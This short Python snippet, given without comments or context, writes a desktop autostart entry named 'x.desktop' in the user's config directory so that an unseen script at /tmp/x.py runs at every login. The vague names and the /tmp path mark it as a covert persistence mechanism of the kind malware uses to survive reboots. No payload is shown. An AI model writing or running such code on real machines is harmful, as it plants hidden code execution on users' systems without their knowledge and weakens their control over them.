import os
target = os.path.join(os.path.expanduser("~"), ".config", "autostart", "x.desktop")
os.makedirs(os.path.dirname(target), exist_ok=True)
open(target, "w").write("[Desktop Entry]\nExec=python3 /tmp/x.py\n")
